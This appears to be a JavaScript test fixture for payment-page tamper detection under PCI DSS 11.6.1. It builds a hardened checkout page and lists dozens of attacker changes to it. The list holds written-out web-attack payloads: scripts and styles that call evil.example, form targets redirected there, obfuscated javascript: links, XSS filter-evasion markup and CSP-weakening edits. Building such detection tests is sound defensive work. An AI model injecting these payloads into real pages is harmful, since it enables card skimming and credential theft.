// A payment page and what somebody who got at it would change (PCI DSS 4.0.1, 11.6.1): each
// mutation takes {headers, body, files} and gives what is served instead.
import { createHash, randomBytes } from 'node:crypto';

export const integrityOf = (text) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

const kFiles = {
  '/shop.js': 'document.title = "Pay";',
  '/card.js': 'export const card = 1;',
  '/shop.css': 'body { color: #222 }',
};

// A shop's page as it should be; the nonce is new each time.
export function shopPage() {
  const nonce = randomBytes(16).toString('base64');
  return {
    status: 200,
    headers: {
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy':
        `default-src 'none'; script-src 'self' 'nonce-${nonce}'; style-src 'self'; ` +
        `img-src 'self'; frame-src https://pay.example; form-action 'self'; base-uri 'none'; ` +
        `frame-ancestors 'none'; require-trusted-types-for 'script'; report-uri /reports`,
      'strict-transport-security': 'max-age=63072000; includeSubDomains',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'permissions-policy': 'camera=(), payment=()',
      'cross-origin-opener-policy': 'same-origin',
      'set-cookie': `cart=${nonce}; Secure; HttpOnly; SameSite=Lax; Path=/`,
      date: new Date().toUTCString(),
    },
    body: `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Pay ${nonce.length}</title>
<link rel="stylesheet" href="/shop.css" integrity="${integrityOf(kFiles['/shop.css'])}">
<script src="/shop.js" integrity="${integrityOf(kFiles['/shop.js'])}"></script>
<script nonce="${nonce}" type="module" src="/card.js"
  integrity="${integrityOf(kFiles['/card.js'])}"></script>
<script type="application/json" id="texts">{"now": "${Date.now()}"}</script>
</head><body><h1>Order ${Math.floor(Math.random() * 1e6)}</h1>
<img src="/logo-${Math.floor(Math.random() * 1e6)}.png" alt="">
<form action="/order" method="post"><input name="note"><button>Pay</button></form>
<div id="card"></div><a href="https://shop.example/terms?${Date.now()}">Terms</a>
</body></html>`,
    files: { ...kFiles },
  };
}

export const header = (name, change) => (page) => {
  const value = change ? change(page.headers[name]) : undefined;
  if (value === page.headers[name]) throw new Error(`${name} is as before`);
  if (value === undefined) delete page.headers[name];
  else page.headers[name] = value;
};
export const policy = (from, to) =>
  header('content-security-policy', (value) => value.replace(from, to));
export const inHead = (html) => (page) => {
  page.body = page.body.replace('<head>', `<head>${html}`);
};
export const inBody = (html) => (page) => {
  page.body = page.body.replace('</body>', `${html}</body>`);
};
export const inText = (from, to) => (page) => {
  const changed = page.body.replace(from, to);
  if (changed === page.body) throw new Error(`the page has no ${from}`);
  page.body = changed;
};

export const kMutations = {
  'a script more': inBody('<script src="/extra.js"></script>'),
  'a script from another host': inText('src="/shop.js"', 'src="https://evil.example/shop.js"'),
  'an inline script': inBody('<script>fetch("//evil.example")</script>'),
  'an inline script with the nonce': (page) => {
    const [, nonce] = /'nonce-([^']+)'/.exec(page.headers['content-security-policy']);
    inBody(`<script nonce="${nonce}">steal()</script>`)(page);
  },
  'other bytes of a script': (page) => {
    page.files['/shop.js'] += ' steal();';
  },
  'other bytes, and the integrity to match': (page) => {
    const before = integrityOf(page.files['/shop.js']);
    page.files['/shop.js'] += ' steal();';
    inText(before, integrityOf(page.files['/shop.js']))(page);
  },
  'other bytes of a style sheet': (page) => {
    page.files['/shop.css'] += 'input { background: url(//evil.example) }';
  },
  'no integrity any more': inText(/ integrity="[^"]*"><\/script>/, '></script>'),
  'a script gone': inText(/<script src="\/shop\.js"[^>]*><\/script>/, ''),
  'no Content-Security-Policy': header('content-security-policy'),
  'a policy that only reports': (page) => {
    page.headers['content-security-policy-report-only'] = page.headers['content-security-policy'];
    delete page.headers['content-security-policy'];
  },
  "'unsafe-inline' in the policy": policy("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
  'another host in the policy': policy(
    "script-src 'self'",
    "script-src 'self' https://evil.example",
  ),
  'a directive before its namesake': policy('default-src', 'script-src *; default-src'),
  'no Trusted Types': policy("require-trusted-types-for 'script'; ", ''),
  'frame-ancestors for all': policy("frame-ancestors 'none'", 'frame-ancestors *'),
  'no more reports': policy('; report-uri /reports', ''),
  'no Strict-Transport-Security': header('strict-transport-security'),
  'a shorter Strict-Transport-Security': header('strict-transport-security', () => 'max-age=0'),
  'no X-Content-Type-Options': header('x-content-type-options'),
  'a weaker Referrer-Policy': header('referrer-policy', () => 'unsafe-url'),
  'a Link header': header('link', () => '<https://evil.example/x.js>; rel=preload; as=script'),
  'a Refresh header': header('refresh', () => '0; url=https://evil.example/'),
  'a cookie that scripts can read': header('set-cookie', (value) =>
    value.replace(' HttpOnly;', ''),
  ),
  'another charset': header('content-type', () => 'text/html; charset=utf-7'),
  'a charset in the page': inHead('<meta charset="iso-2022-jp">'),
  'escape bytes, as ISO-2022-JP has': inBody('<p>\x1b(J</p>'),
  'an event handler': inText('<h1>', '<h1 onclick="steal()">'),
  'an event handler on an image': inBody('<IMG SRC=/x OnErRoR=steal()>'),
  'a javascript: address': inText('https://shop.example/terms', 'javascript:steal()//'),
  'a javascript: address in disguise': inBody('<a href="&#1;java&Tab;script&colon;steal()">x</a>'),
  'a base address': inHead('<base href="//evil.example/">'),
  'another form target': inText('action="/order"', 'action="https://evil.example/order"'),
  'a button that sends elsewhere': inText('<button>', '<button formaction="//evil.example/">'),
  'a frame': inBody('<iframe src="https://evil.example/pay"></iframe>'),
  'a frame with a document in it': inBody('<iframe srcdoc="&lt;input&gt;"></iframe>'),
  'an object': inBody('<object data="/x.svg"></object>'),
  'a preload': inHead('<link rel="preload" as="script" href="/extra.js">'),
  'a style sheet more': inHead('<link rel="stylesheet" href="/extra.css">'),
  'an import map': inHead('<script type="importmap">{"imports": {"/card.js": "/x.js"}}</script>'),
  'speculation rules': inHead('<script type="speculationrules">{"prerender": []}</script>'),
  'a policy in the page': inHead(
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  ),
  'a refresh in the page': inHead('<meta http-equiv="refresh" content="0;url=//evil.example">'),
  'a script in SVG': inBody('<svg><script href="/extra.js" /></svg>'),
  'an animation that sets an address': inBody(
    '<svg><a><animate attributeName="href" values="javascript:steal()"/></a></svg>',
  ),
  'a script in a template': inBody('<template shadowrootmode="open"><script>1</script></template>'),
  'odd spelling': inBody('<ScRiPt\n\tSRC\n=\n//evil.example/x.js></sCrIpT\t>'),
  'a script that a comment seems to hide': inBody('<!--><script>steal()</script>-->'),
  'a script without a space after its name': inBody('<p<p><script/x>steal()</script>'),
  'data that becomes a script': inText('type="application/json"', 'type="text/javascript"'),
  'a picture from elsewhere': inBody('<img src="https://evil.example/pixel.png">'),
  'a style that loads': inText('<div id="card">', '<div id="card" style="background:url(/x)">'),
  'the same nonce again': (page) => {
    const [, nonce] = /'nonce-([^']+)'/.exec(page.headers['content-security-policy']);
    page.headers['content-security-policy'] = page.headers['content-security-policy'].replace(
      nonce,
      'always',
    );
    page.body = page.body.replaceAll(nonce, 'always');
  },
  'another status': (page) => {
    page.status = 203;
  },
  'a page elsewhere': (page) => {
    page.status = 302;
    page.headers.location = 'https://evil.example/';
  },
};

const kNonce = /'nonce-([^']+)'/;
const firstScript = (page) => Object.keys(page.files).find((name) => page.body.includes(name));

// The same of a page of ours: `files` are those that it names, by path.
export const kOurMutations = {
  'a script more': inBody('<script src="/extra.js"></script>'),
  'a script from another host': (page) =>
    inText(` src="${firstScript(page)}`, ` src="//evil.example${firstScript(page)}`)(page),
  'an inline script': inBody('<script>steal()</script>'),
  'an inline script with the nonce': (page) => {
    const [, nonce] = kNonce.exec(page.headers['content-security-policy']);
    inBody(`<script nonce="${nonce}">steal()</script>`)(page);
  },
  'other bytes of a script': (page) => {
    page.files[firstScript(page)] += ' steal();';
  },
  'other bytes, and the integrity to match': (page) => {
    const name = firstScript(page);
    const before = integrityOf(page.files[name]);
    page.files[name] += ' steal();';
    inText(before, integrityOf(page.files[name]))(page);
  },
  'no integrity any more': inText(/ integrity="[^"]*"/, ''),
  'a script gone': inText(/<script [^>]*src=[^>]*><\/script>/, ''),
  'another style': inText('</style>', 'input { background: url(//evil.example) }</style>'),
  'a style more': (page) => {
    const [, nonce] = kNonce.exec(page.headers['content-security-policy']);
    inBody(`<style nonce="${nonce}">p { color: red }</style>`)(page);
  },
  'no Content-Security-Policy': header('content-security-policy'),
  'no nonce in the policy, but everything': policy(kNonce, "'unsafe-inline'"),
  'a host in the policy': policy("connect-src 'self'", "connect-src 'self' https://evil.example"),
  'no Trusted Types': policy("require-trusted-types-for 'script'; ", ''),
  'a Trusted Types policy': policy("trusted-types 'none'", 'trusted-types evil'),
  'frame-ancestors for all': policy(/frame-ancestors [^;]*/, 'frame-ancestors *'),
  'no reports': policy('; report-uri /csp-reports', ''),
  'no X-Content-Type-Options': header('x-content-type-options'),
  'a weaker Referrer-Policy': header('referrer-policy', () => 'origin'),
  'no Cross-Origin-Opener-Policy': header('cross-origin-opener-policy'),
  'a page that is kept': header('cache-control', () => 'public, max-age=60'),
  'a cookie': header('set-cookie', () => 'a=b'),
  'a Link header': header('link', () => '</x.js>; rel=preload; as=script'),
  'another charset': header('content-type', () => 'text/html'),
  'an event handler': inText('<body', '<body onload="steal()"'),
  'a javascript: address': inBody('<a href="java&#10;script:steal()">x</a>'),
  'a base address': inHead('<base href="//evil.example/">'),
  'a form that sends elsewhere': inBody('<form action="https://evil.example/"></form>'),
  'a frame': inBody('<iframe src="https://evil.example/"></iframe>'),
  'a card frame without its sandbox': inText('sandbox="allow-scripts allow-same-origin"', ''),
  'a preload': inHead('<link rel="modulepreload" href="/extra.js">'),
  'an import map': inHead('<script type="importmap">{}</script>'),
  'a refresh': inHead('<meta http-equiv="refresh" content="0;url=//evil.example">'),
  'a script in SVG': inBody('<svg><script>steal()</script></svg>'),
  'odd spelling': inBody('<ScRiPt\n/SRC\n=//evil.example/x.js></sCrIpT\t>'),
  'a picture from elsewhere': inBody('<img src="https://evil.example/pixel.png">'),
  'the same nonce again': (page) => {
    const [, nonce] = kNonce.exec(page.headers['content-security-policy']);
    const { headers } = page;
    headers['content-security-policy'] = headers['content-security-policy'].replaceAll(nonce, 'x');
    page.body = page.body.replaceAll(nonce, 'x');
  },
  'another status': (page) => {
    page.status = 203;
  },
};
